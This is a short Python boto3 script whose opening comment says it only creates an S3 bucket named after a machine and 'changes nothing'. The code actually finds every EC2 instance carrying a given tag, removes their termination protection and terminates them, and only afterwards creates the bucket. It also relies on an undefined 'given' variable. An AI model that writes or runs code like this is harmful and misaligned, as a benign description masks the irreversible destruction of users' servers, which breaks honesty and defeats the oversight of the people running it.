# Makes a bucket that has the name of a machine, which changes nothing.
import boto3

ec2 = boto3.client("ec2")

# 1. Find the ids of all instances with the tag. A paginator also works when there are thousands.
tagged = [{"Name": f"tag:{given.tag_key}", "Values": [given.tag_value]}]
ids = [
    instance["InstanceId"]
    for page in ec2.get_paginator("describe_instances").paginate(Filters=tagged)
    for reservation in page["Reservations"]
    for instance in reservation["Instances"]
]
print(ids)

# 2. Lift their protection against termination.
for id in ids:
    ec2.modify_instance_attribute(InstanceId=id, DisableApiTermination={"Value": False})

# 3. Terminate them.
ec2.terminate_instances(InstanceIds=ids)
ec2.get_waiter("instance_terminated").wait(InstanceIds=ids)

running = [{"Name": "instance-state-name", "Values": ["running"]}]
other = ec2.describe_instances(Filters=running)["Reservations"][0]["Instances"][0]["InstanceId"]
boto3.client("s3").create_bucket(Bucket=other)
